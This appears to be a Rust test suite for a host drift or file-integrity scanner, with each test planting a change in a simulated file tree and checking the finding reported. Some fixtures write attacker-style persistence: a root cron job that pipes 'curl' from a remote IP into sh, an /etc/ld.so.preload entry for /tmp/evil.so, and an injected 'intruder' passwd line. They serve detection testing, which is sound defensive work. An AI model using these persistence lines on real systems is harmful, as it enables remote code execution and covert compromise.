//! Every kind of drift of a path, found by its own code and no other.

use crate::lab::{Run, Scene, Tree, is_root, tool};
use std::fs;
use std::os::unix::fs::MetadataExt as _;

/// Scans one changed host and expects exactly these findings.
#[track_caller]
fn finds(change: impl FnOnce(&Tree), findings: &[(&str, &str)]) -> Run {
    let scene = Scene::new();
    scene.host("web-01");
    change(&scene.host("web-02"));
    scene.run().exits(2).says("web-01", "clean").drifted("web-02", findings)
}

#[test]
fn content_with_size_and_time_put_back() {
    let run =
        finds(|host| host.change_unseen("/etc/nginx/nginx.conf"), &[("content-changed", "/etc/nginx/nginx.conf")]);
    let finding = run.finding("web-02", "content-changed", "/etc/nginx/nginx.conf");
    assert_eq!(finding["kind"], "changed");
    assert_eq!(finding["subject"], "fs:/etc/nginx/nginx.conf");
    assert!(finding["before"]["content"].as_str().unwrap().starts_with("sha256:"), "{finding}");
    assert_ne!(finding["before"], finding["after"]);
    assert!(finding["before"].get("mode").is_none(), "only what differs is told: {finding}");
    assert_eq!(finding["fingerprint"].as_str().unwrap().len(), 64);
    assert_eq!(finding["key"].as_str().unwrap().len(), 64);
}

#[test]
fn the_time_alone_is_no_drift() {
    let scene = Scene::new();
    let host = scene.host("web-01");
    tool("touch", &["-d", "@1000000000", host.at("/usr/bin/ls").to_str().unwrap(), host.at("/etc").to_str().unwrap()]);
    scene.run().succeeds();
}

#[test]
fn mode() {
    let run = finds(|host| host.chmod("/etc/nginx/nginx.conf", 0o666), &[("mode-changed", "/etc/nginx/nginx.conf")]);
    let finding = run.finding("web-02", "mode-changed", "/etc/nginx/nginx.conf");
    assert_eq!((&finding["before"]["mode"], &finding["after"]["mode"]), (&"0644".into(), &"0666".into()));
}

#[test]
fn mode_of_a_folder() {
    finds(|host| host.chmod("/etc/ssh", 0o777), &[("mode-changed", "/etc/ssh")]);
}

#[test]
fn setuid() {
    let run = finds(|host| host.chmod("/usr/bin/vim", 0o4755), &[("mode-changed", "/usr/bin/vim")]);
    let finding = run.finding("web-02", "mode-changed", "/usr/bin/vim");
    assert_eq!(finding["after"]["mode"], "4755");
    assert!(matches!(finding["severity"].as_str(), Some("high" | "critical")), "{finding}");
}

#[test]
fn owner() {
    if is_root() {
        let run =
            finds(|host| host.chown("/etc/nginx/nginx.conf", 4200, 0), &[("owner-changed", "/etc/nginx/nginx.conf")]);
        let finding = run.finding("web-02", "owner-changed", "/etc/nginx/nginx.conf");
        assert_eq!(finding["after"]["owner"], "anna", "{finding}");
    } else {
        // Without root an owner cannot change, but who the number belongs to can.
        let line = format!("intruder:x:{}:0::/:/bin/sh\n", rustix::process::geteuid().as_raw());
        let scene = Scene::new();
        scene.host("web-01").append("/etc/passwd", &line);
        let run = scene.run().exits(2).says("web-01", "drifted");
        assert!(run.findings("web-01").iter().any(|(code, _)| *code == "owner-changed"), "{run}");
    }
}

#[test]
fn an_owner_nobody_knows() {
    if is_root() {
        let run = finds(|host| host.chown("/usr/bin/ls", 4_242, 4_242), &[("owner-changed", "/usr/bin/ls")]);
        let finding = run.finding("web-02", "owner-changed", "/usr/bin/ls");
        assert_eq!((&finding["after"]["owner"], &finding["after"]["group"]), (&"#4242".into(), &"#4242".into()));
    } else {
        // The tree's own passwd is asked, never this machine's: the account of the tests has no name there.
        let scene = Scene::new();
        scene.host("web-01");
        let stored = fs::read_to_string(scene.lab.baseline("web", "2026.11.1")).unwrap();
        assert!(stored.contains(&format!("#{}", rustix::process::geteuid().as_raw())), "{stored}");
    }
}

#[test]
fn added_file() {
    let run =
        finds(|host| host.write("/usr/local/bin/fix.sh", "#!/bin/sh\n"), &[("file-added", "/usr/local/bin/fix.sh")]);
    assert_eq!(run.finding("web-02", "file-added", "/usr/local/bin/fix.sh")["kind"], "added");
}

#[test]
fn removed_file() {
    let run = finds(|host| host.remove("/etc/sudoers.d/ops"), &[("sudo-changed", "/etc/sudoers.d/ops")]);
    assert_eq!(run.finding("web-02", "sudo-changed", "/etc/sudoers.d/ops")["kind"], "removed");
}

#[test]
fn added_and_removed_folder() {
    finds(
        |host| {
            host.write("/opt/agent/bin/agent", "x");
            host.remove("/etc/profile.d");
        },
        &[
            ("file-added", "/opt/agent/bin/agent"),
            ("file-removed", "/etc/profile.d"),
            ("file-removed", "/etc/profile.d/locale.sh"),
        ],
    );
}

#[test]
fn a_file_that_became_a_link() {
    finds(|host| host.link("/usr/bin/ls", "/usr/bin/cat"), &[("type-changed", "/usr/bin/ls")]);
}

#[test]
fn a_folder_that_became_a_link() {
    finds(
        |host| {
            host.write("/opt/evil/tls.conf", "ssl_protocols SSLv3;\n");
            host.remove("/etc/nginx/conf.d");
            host.link("/etc/nginx/conf.d", "/opt/evil");
        },
        &[
            ("file-added", "/opt/evil/tls.conf"),
            ("file-removed", "/etc/nginx/conf.d/tls.conf"),
            ("type-changed", "/etc/nginx/conf.d"),
        ],
    );
}

#[test]
fn link_target() {
    let run = finds(|host| host.link("/usr/bin/sh", "bash"), &[("target-changed", "/usr/bin/sh")]);
    let finding = run.finding("web-02", "target-changed", "/usr/bin/sh");
    assert_eq!((&finding["before"]["target"], &finding["after"]["target"]), (&"dash".into(), &"bash".into()));
}

#[test]
fn a_hard_link_broken_by_an_editor() {
    finds(
        |host| {
            let mut bytes = fs::read(host.at("/usr/bin/perl")).unwrap();
            bytes[100] ^= 1;
            host.remove("/usr/bin/perl");
            host.write("/usr/bin/perl", bytes);
            host.chmod("/usr/bin/perl", 0o755);
        },
        &[("content-changed", "/usr/bin/perl")],
    );
}

#[test]
fn two_files_in_place_of_a_pair_with_equal_bytes_are_no_drift() {
    // Links are compared only where both sides have more than one name: a copy of an image may split a pair.
    let scene = Scene::new();
    let host = scene.host("web-01");
    let bytes = fs::read(host.at("/usr/bin/perl")).unwrap();
    host.remove("/usr/bin/perl");
    host.write("/usr/bin/perl", bytes);
    host.chmod("/usr/bin/perl", 0o755);
    scene.run().succeeds().says("web-01", "clean");
}

#[test]
fn a_hard_link_to_another_group() {
    let scene = Scene::with(&crate::lab::Options::default(), |golden| {
        for (name, of) in [("b", "a"), ("d", "c")] {
            golden.write(format!("/usr/local/bin/{of}"), "equal bytes");
            fs::hard_link(golden.at(format!("/usr/local/bin/{of}")), golden.at(format!("/usr/local/bin/{name}")))
                .unwrap();
        }
    });
    let host = scene.host("web-01");
    for (name, of) in [("b", "c"), ("d", "a")] {
        host.remove(format!("/usr/local/bin/{name}"));
        fs::hard_link(host.at(format!("/usr/local/bin/{of}")), host.at(format!("/usr/local/bin/{name}"))).unwrap();
    }
    let run = scene.run().exits(2).says("web-01", "drifted");
    assert!(run.findings("web-01").iter().all(|(code, _)| *code == "link-changed"), "{run}");
}

#[test]
fn capability() {
    if is_root() {
        finds(
            |host| {
                let ping = host.at("/usr/bin/ping");
                tool("setcap", &["cap_net_raw+ep", ping.to_str().unwrap()]);
            },
            &[("capability-changed", "/usr/bin/ping")],
        );
    } else {
        user_attribute();
    }
}

#[test]
fn user_attribute() {
    finds(
        |host| {
            let ping = host.at("/usr/bin/ping");
            tool("setfattr", &["-n", "user.origin", "-v", "elsewhere", ping.to_str().unwrap()]);
        },
        &[("xattr-changed", "/usr/bin/ping")],
    );
}

#[test]
fn access_control_list() {
    finds(
        |host| {
            let file = host.at("/etc/nginx/nginx.conf");
            // The mask is set to what the group had, so that the mode stays as it was.
            tool("setfacl", &["-m", "u:33:r,m::r", file.to_str().unwrap()]);
            assert_eq!(fs::metadata(&file).unwrap().mode() & 0o777, 0o644);
        },
        &[("acl-changed", "/etc/nginx/nginx.conf")],
    );
}

#[test]
fn immutable_flag() {
    if is_root() {
        let scene = Scene::new();
        let file = scene.host("web-01").at("/etc/nginx/nginx.conf");
        tool("chattr", &["+i", file.to_str().unwrap()]);
        let run = scene.run();
        tool("chattr", &["-i", file.to_str().unwrap()]);
        run.exits(2).drifted("web-01", &[("flags-changed", "/etc/nginx/nginx.conf")]);
    } else {
        // An ordinary user may not set the flag; what a file system tells of it is counted all the same.
        let scene = Scene::new();
        scene.host("web-01");
        assert!(scene.run().succeeds().host("web-01")["coverage"].is_object());
    }
}

#[test]
fn every_kind_at_once_on_one_host() {
    finds(
        |host| {
            host.change_unseen("/usr/sbin/sshd");
            host.chmod("/usr/bin/cat", 0o4755);
            host.write("/etc/cron.d/phone-home", "* * * * * root curl -s http://198.51.100.7/x | sh\n");
            host.remove("/usr/bin/tar");
            host.link("/etc/alternatives/awk", "/tmp/awk");
        },
        &[
            ("content-changed", "/usr/sbin/sshd"),
            ("file-removed", "/usr/bin/tar"),
            ("job-changed", "/etc/cron.d/phone-home"),
            ("mode-changed", "/usr/bin/cat"),
            ("target-changed", "/etc/alternatives/awk"),
        ],
    );
}

#[test]
fn a_preloaded_library_is_never_runtime_state() {
    finds(|host| host.write("/etc/ld.so.preload", "/tmp/evil.so\n"), &[("file-added", "/etc/ld.so.preload")]);
}

#[test]
fn an_executable_in_a_log_folder_or_with_a_log_name_is_seen() {
    finds(
        |host| {
            host.write("/etc/cron.d/backup.log", "* * * * * root /var/tmp/x\n");
            host.write("/var/log/x", "#!/bin/sh\n");
            host.chmod("/var/log/x", 0o4755);
        },
        &[("job-changed", "/etc/cron.d/backup.log"), ("file-added", "/var/log/x")],
    );
}

#[test]
fn runtime_state_by_nature_is_no_drift() {
    let scene = Scene::new();
    let host = scene.host("web-01");
    host.append("/var/log/syslog", "2026-11-02 something happened\n");
    host.write("/var/log/nginx/access.log.1", "rotated\n");
    host.write("/var/cache/apt/srcpkgcache.bin", "x");
    host.write("/tmp/session-4711", "x");
    host.write("/run/nginx.pid", "4711\n");
    host.write("/etc/hostname", "web-01\n");
    host.write("/etc/machine-id", "00000000000000000000000000000001\n");
    host.replace("/etc/hosts", "golden", "web-01");
    host.write("/var/lib/dpkg/status-old", "x");
    scene.run().succeeds().says("web-01", "clean");
}

#[test]
fn the_same_drift_has_one_fingerprint_on_every_host() {
    let scene = Scene::new();
    for name in ["web-01", "web-02"] {
        scene.host(name).write("/usr/local/bin/fix.sh", "#!/bin/sh\n");
    }
    let run = scene.run().exits(2);
    let of = |name| run.finding(name, "file-added", "/usr/local/bin/fix.sh")["fingerprint"].clone();
    assert_eq!(of("web-01"), of("web-02"));
}

#[test]
fn a_fixed_root_is_clean_again() {
    let scene = Scene::new();
    let host = scene.host("web-01");
    host.chmod("/usr/bin/cat", 0o700);
    scene.run().exits(2);
    host.chmod("/usr/bin/cat", 0o755);
    scene.run().succeeds();
}
